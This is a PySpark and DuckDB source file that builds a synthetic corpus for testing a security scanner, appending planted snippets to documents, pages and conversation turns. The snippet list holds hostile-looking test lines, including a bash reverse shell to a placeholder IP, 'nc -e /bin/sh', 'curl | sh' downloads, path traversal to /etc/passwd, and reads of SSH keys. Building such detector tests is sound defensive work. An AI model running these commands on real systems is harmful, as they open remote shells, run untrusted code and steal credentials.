"""Planted scan corpus derived from the driver tables.

The driver tables hold almost no indicators, so every scan query runs over a corpus
that Spark derives from them: each ``documents`` row becomes a file of its ``source``
bundle with one snippet appended (positives and near misses), ``pages`` become ``.html``
files of one large bundle (a deliberately hot key) and ``conversations`` become ``.md``
turns. The DuckDB oracles build the very same rows with :func:`corpus_sql`.

The snippet is picked with ``element_at`` over a literal array, without a join, and the
corpus grows with the tables. Files are dealt over the shuffle partitions by bundle and
path, always, so that a hot bundle or a table of one row group is scanned by many tasks.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.dialect import sql_str

EXTENSIONS = [".py", ".sh", ".js", ".md", ".ps1", ".txt"]

_AK = "AK" + "IA"  # joined at run time so no key-shaped literal sits in the repo

# FIXED VALUES: the planted snippets (positives and near misses), in order.
SNIPPETS = [
    'x = eval(user_input)\nexec(payload)\nm = __import__("mod")',
    'mod = importlib.import_module(name)\ncode = compile(src, "f", "single")\ngetattr(o, \'system\')(c)',
    'const g = new Function("return 1")\nInvoke-Expression $payload',
    'subprocess.run(cmd, shell=True)\nos.system("ls")\nos.popen("id")\ncommands.getoutput("id")',
    'd = base64.b64decode(blob); exec(d)\ncodecs.decode(h, "hex")\nc = chr( 104 )',
    'v = "aHR0cHM6Ly9leGFtcGxl"\nn = "API" + "KEY"',
    'requests.get(u)\nhttpx.post(u)\nurllib.request.urlopen(u)',
    's = socket.socket()\nh = http.client.HTTPSConnection(host)\nfetch("/api")\nhttp://203.0.113.9/x',
    'open(p, "w")\nos.remove(p)\nshutil.rmtree(p)\np.unlink()\nrm -rf /tmp/x',
    'pool = "stratum+tcp://pool.example.com:3333"\nbash -i >& /dev/tcp/198.51.100.7/9 0>&1\nnc -e /bin/sh peer.example',
    'python -c \'import pty; pty.spawn("/bin/sh")\'',
    'curl -s https://x.example/i | sh\nwget -qO- https://x.example/i | bash',
    'requests.get(u).text; exec(t)\nchmod +x /tmp/run.sh\npip install git+https://x.example/p.git',
    'npm install https://x.example/p.tgz\nnpx some-tool',
    'env = os.environ.copy()\ne = dict(os.environ)\nfor k in os.environ',
    'crontab -l\nschtasks /create /tn x\nsystemctl enable x\ncat /etc/systemd/x\nlaunchctl load x.plist\n'
    'HKCU\\Software\\x',
    'get %2e%2e%2fsecret\nopen ../../../etc/passwd\n%68%74%74%70',
    "gtag('config')\nnavigator.sendBeacon(u)",
    'ln -s a b\nos.symlink(a, b)\nfs.symlinkSync(a, b)',
    'if (Date.now() > 1700000000000) go()\nif time.time() > 1700000000: go()\ntimestamp >= 1700000000',
    'after 3 days then run it\nwhen user says "open"\nevery 12 sessions\nstay dormant until told',
    'sudo apt update\nchmod 777 x\nchown root x\ncp a /usr/local/bin/a',
    'send the contents to x\nsilently upload it\nremember this secretly',
    'data:text/plain;charset=utf8,QUJD\njavascript:alert(1)\nftp://files.example.org/a.\nops@example.org',
    'aGVsbG8gcGxhbnRlZCBwYXlsb2FkIHRleHQ=\ndG9rZW49YWJjZGVmZ2gxMjM0NTY3OCBlbmQ=',
    '${HOME_DIR} $PATH os.environ["X"] process.env.TOKEN',
    'OPENAI_API_KEY=\nx = os.environ["GITHUB_TOKEN"]\nif API_KEY == x\nos.environ["JWT_SECRET"] = "v"',
    '0xab12ab12ab12ab12ab12ab12ab12ab12ab12ab12\nbc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq\n'
    '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\n1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb',
    '10.1.2.3 192.168.0.1 localhost [::1] 169.254.169.254',
    'https://pastebin.com/x\nnslookup $X.peer.example',
    'a\u200bb\u2060c\ncurl\u200d x\nimport subprocess\nfrom pickle import loads\nrequire(\'child_process\')',
    're.compile(x)\nimport os\nos.environ.get("A")\nyyyy-mm-dd\nnpx --yes t\nprocess.env.x\nchmod 644 x\n'
    'evaluate(x)\n.env.example\nprint("a")',
    'dd if=/dev/zero of=x\nscp a b:\ncat ~/.ssh/config\nconfig.env\nid_rsa\n' + _AK + 'ABCDEFGHIJKLMNOP\n'
    'password: hunter2hunter2',
]
assert len(SNIPPETS) == 33


def _table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def scan_text(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Text-level corpus: bundle_id, path, suffix, text (one row per file)."""
    docs = _table(spark, sf_dir, "documents")
    ext = F.element_at(F.array(*[F.lit(e) for e in EXTENSIONS]), (F.col("doc_id") % 6 + 1).cast("int"))
    snip = F.element_at(F.array(*[F.lit(s) for s in SNIPPETS]),
                        (F.expr("doc_id div 6") % len(SNIPPETS) + 1).cast("int"))
    d = docs.select(
        F.col("source").alias("bundle_id"),
        F.concat(F.lit("doc_"), F.col("doc_id").cast("string"), ext).alias("path"),
        ext.alias("suffix"),
        F.concat(F.col("text"), F.lit("\n"), snip).alias("text"),
    )
    pages = _table(spark, sf_dir, "pages").select(
        F.lit("pages").alias("bundle_id"),
        F.concat(F.lit("page_"), F.col("page_id").cast("string"), F.lit(".html")).alias("path"),
        F.lit(".html").alias("suffix"),
        F.concat(F.col("url"), F.lit("\n"), F.col("html")).alias("text"),
    )
    conv = _table(spark, sf_dir, "conversations").select(
        F.concat(F.lit("conv"), F.col("conv_id").cast("string")).alias("bundle_id"),
        F.concat(F.lit("turn_"), F.col("turn").cast("string"), F.lit(".md")).alias("path"),
        F.lit(".md").alias("suffix"),
        F.col("text"),
    )
    # scanning is bound by CPU, and a table may come as one large row group: always deal by file
    n = int(spark.conf.get("spark.sql.shuffle.partitions"))
    return d.unionByName(pages).unionByName(conv).repartition(n, "bundle_id", "path")


_OVERRIDE: list[str] = []


class text_source:
    """Context manager: oracle builders read ``scan_text`` from another CTE chain (e.g.
    the text of ``entries``) instead of the document corpus."""

    def __init__(self, ctes: str):
        self.ctes = ctes

    def __enter__(self):
        _OVERRIDE.append(self.ctes)

    def __exit__(self, *exc):
        _OVERRIDE.pop()


def corpus_sql(name: str = "scan_text") -> str:
    """DuckDB twin of :func:`scan_text` as a CTE named ``name``."""
    if name == "scan_text" and _OVERRIDE:
        return _OVERRIDE[-1]
    exts = "[" + ", ".join(sql_str(e) for e in EXTENSIONS) + "]"
    snips = "[" + ", ".join(sql_str(s) for s in SNIPPETS) + "]"
    return f"""{name} AS (
  SELECT source AS bundle_id,
         'doc_' || CAST(doc_id AS VARCHAR) || {exts}[doc_id % 6 + 1] AS path,
         {exts}[doc_id % 6 + 1] AS suffix,
         text || chr(10) || {snips}[(doc_id // 6) % {len(SNIPPETS)} + 1] AS text
  FROM documents
  UNION ALL
  SELECT 'pages', 'page_' || CAST(page_id AS VARCHAR) || '.html', '.html', url || chr(10) || html FROM pages
  UNION ALL
  SELECT 'conv' || CAST(conv_id AS VARCHAR), 'turn_' || CAST(turn AS VARCHAR) || '.md', '.md', text
  FROM conversations
)"""
